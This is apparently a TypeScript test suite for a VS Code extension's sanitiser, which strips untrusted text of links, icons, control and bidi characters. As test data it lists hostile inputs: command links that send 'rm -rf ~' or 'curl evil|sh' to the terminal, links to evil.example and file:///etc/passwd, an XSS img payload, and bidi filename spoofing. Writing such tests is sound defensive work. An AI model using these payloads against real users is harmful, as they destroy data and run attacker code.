import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import MarkdownIt from 'markdown-it';
import { DEFAULT_MAX_LENGTH, markdownText, neutralize, quoted } from '../../src/render/untrusted';

// What VS Code itself matches (src/vs/base/common/linkedText.ts and iconLabels.ts), so a test can
// ask "would the workbench turn this into a link / an icon?" rather than "is it the string I expect?".
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const VSCODE_ICON = /\$\(([a-z0-9-]+(?:~[a-z0-9-]+)?)\)/gi;
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;
const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** Strings a cloned repository, a settings file, a server or a model could hand us. */
const HOSTILE = [
  '[Open result](command:workbench.action.files.newUntitledFile).py',
  '[Install](command:workbench.extensions.installExtension?%5B%22evil.ext%22%5D)',
  '[x](command:workbench.action.terminal.sendSequence?{"text":"rm -rf ~\\n"})',
  '[click](https://evil.example/steal)',
  '[home](file:///etc/passwd)',
  '[spaced] (command:x)',
  '[a]\n(command:x)',
  '[nested [brackets]](command:x)',
  '[[x](command:y)](command:z)',
  '$(gear) settings.py',
  '$(sync~spin) running',
  '$(loading~spin)$(alert)',
  'a\u202eexe.txt',
  'invoice\u2066\u2069.pdf',
  'zero\u200bwidth\ufeffjoin\u2060er',
  'line one\nline two\r\nline three',
  'tab\there\u0000nul\u0007bell\u001b[31mred',
  'c1\u0085next\u009bcsi',
  'x'.repeat(10_000),
  '😀'.repeat(300),
  '[' + 'a'.repeat(500) + '](command:x)',
];

describe('neutralize: untrusted text never becomes a link, an icon or a second line', () => {
  for (const hostile of HOSTILE) {
    it(`defuses ${JSON.stringify(hostile.slice(0, 50))}`, () => {
      const safe = neutralize(hostile);
      assert.equal([...safe.matchAll(VSCODE_LINK)].length, 0, `link survived: ${safe}`);
      assert.equal([...safe.matchAll(VSCODE_ICON)].length, 0, `icon survived: ${safe}`);
      assert.doesNotMatch(safe, CONTROL);
      assert.doesNotMatch(safe, BIDI);
      assert.ok(Array.from(safe).length <= DEFAULT_MAX_LENGTH, `too long: ${safe.length}`);
      assert.equal(neutralize(safe), safe, 'applying it twice changes nothing');
    });
  }

  it('keeps the words readable: the label and target of a would-be link are still there', () => {
    assert.equal(neutralize('[Open result](command:x).py'), '[Open result] (command:x).py');
    assert.equal(neutralize('$(gear) settings.py'), '$ (gear) settings.py');
  });

  it('leaves ordinary names, accents, CJK and emoji alone', () => {
    for (const name of ['main.py', 'Résumé (final).docx', '数据.csv', 'a [draft].md', 'price $5 (net).txt', '🚀 launch.ts']) {
      assert.equal(neutralize(name), name);
    }
  });

  it('cuts long text at the bound with an ellipsis, never inside a surrogate pair', () => {
    const cut = neutralize('😀'.repeat(300), 10);
    assert.equal(Array.from(cut).length, 10);
    assert.ok(cut.endsWith('…'));
    assert.ok(!/[\ud800-\udbff]…$/.test(cut));
  });

  it('flattens line breaks to one space', () => {
    assert.equal(neutralize('a\n\n  b\r\nc'), 'a b c');
  });
});

describe('markdownText: untrusted text inside a MarkdownString stays text', () => {
  // A Markdown renderer with raw HTML and autolinks on: stricter than VS Code's hovers.
  const md = new MarkdownIt({ html: true, linkify: true });
  for (const hostile of [
    ...HOSTILE,
    '**b** _i_ `code` # heading',
    '<img src=x onerror=alert(1)>',
    'https://evil.example and www.evil.example',
    '&lt;b&gt; &#x5b;x&#x5d;(command:y)',
  ]) {
    it(`renders ${JSON.stringify(hostile.slice(0, 40))} as plain text`, () => {
      const html = md.renderInline(markdownText(hostile));
      assert.doesNotMatch(html, /<(a|img|strong|em|code|h1)\b/, html);
      assert.equal([...html.matchAll(VSCODE_ICON)].length, 0, html);
      assert.equal([...html.matchAll(VSCODE_LINK)].length, 0, html);
    });
  }
});

describe('quoted: an excerpt of a hostile value for a message', () => {
  it('quotes a short neutralized excerpt, not the value verbatim', () => {
    const value = '[Open Settings](command:workbench.action.terminal.sendSequence?{"text":"curl evil|sh\\n"})';
    const out = quoted(value);
    assert.ok(out.length <= 40);
    assert.equal([...out.matchAll(VSCODE_LINK)].length, 0);
    assert.ok(out.startsWith('"[Open Settings]'));
  });

  it('handles values JSON cannot stringify', () => {
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    assert.equal(typeof quoted(cyclic), 'string');
    assert.equal(quoted(undefined), 'undefined');
    assert.equal(quoted(12), '12');
  });
});
